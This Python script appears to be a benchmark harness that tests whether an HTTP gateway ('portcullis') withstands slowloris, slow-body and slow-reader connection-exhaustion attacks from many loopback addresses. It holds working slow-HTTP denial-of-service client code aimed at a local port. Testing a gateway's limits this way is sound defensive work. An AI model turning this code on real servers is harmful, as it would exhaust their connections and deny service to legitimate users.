#!/usr/bin/env python3
"""Attacking clients for bench/attack.sh, each kind on COUNT connections spread over SOURCES
loopback addresses (127.0.2.1, 127.0.2.2, …), run for at most SECONDS:

  slowloris   sends a request head one byte every 2 s, never finishing it
  slowbody    sends a head announcing 1 MB, then one body byte every 2 s
  slowreader  asks for 8 MB (more than the kernel buffers between it and the gateway) with a
              4 KB receive window and never reads

Prints how many connections the gateway accepted, how many it closed, and the time from the
start to the last close (the limit that stops the attack must show there)."""
import select
import socket
import sys
import time

kind, port, count, sources, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
start = time.monotonic()
open_sockets = {}
refused = 0
for index in range(count):
    s = socket.socket()
    if kind == "slowreader":
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    s.bind((f"127.0.2.{1 + index % sources}", 0))
    try:
        s.connect(("127.0.0.1", port))
    except OSError:
        refused += 1
        continue
    s.setblocking(False)
    try:
        if kind == "slowbody":
            s.send(b"POST /echo HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n")
        elif kind == "slowreader":
            s.send(b"GET /bytes/8000000 HTTP/1.1\r\nHost: a\r\n\r\n")
    except OSError:
        pass
    open_sockets[s] = None

head = b"GET / HTTP/1.1\r\nHost: a\r\nX-Slow: " + b"s" * 100000
closed_at = []
step = 0
while time.monotonic() - start < seconds:
    if kind in ("slowloris", "slowbody"):
        for s in list(open_sockets):
            try:
                s.send(head[step:step + 1] if kind == "slowloris" else b"b")
            except OSError:
                pass
        step += 1
    deadline = time.monotonic() + 2
    while time.monotonic() < deadline:
        watched = [] if kind == "slowreader" else list(open_sockets)
        readable, _, _ = select.select(watched, [], [], max(0, deadline - time.monotonic()))
        for s in readable:
            try:
                gone = not s.recv(65536)
            except OSError:
                gone = True
            if gone:
                closed_at.append(time.monotonic() - start)
                del open_sockets[s]
                s.close()
# A slow reader never reads, so its closes are seen on the gateway's side (attack.sh reads
# portcullis_active_connections); the others see the gateway's answer and close here.
if kind == "slowreader":
    print(f"{kind}: {count - refused} connections held from {sources} address(es) for {seconds:.0f} s without reading")
else:
    print(f"{kind}: {count - refused} connections from {sources} address(es): {len(closed_at)} closed by the gateway, "
          f"{len(open_sockets)} still open after {seconds:.0f} s; last close at {max(closed_at) if closed_at else 0:.1f} s")
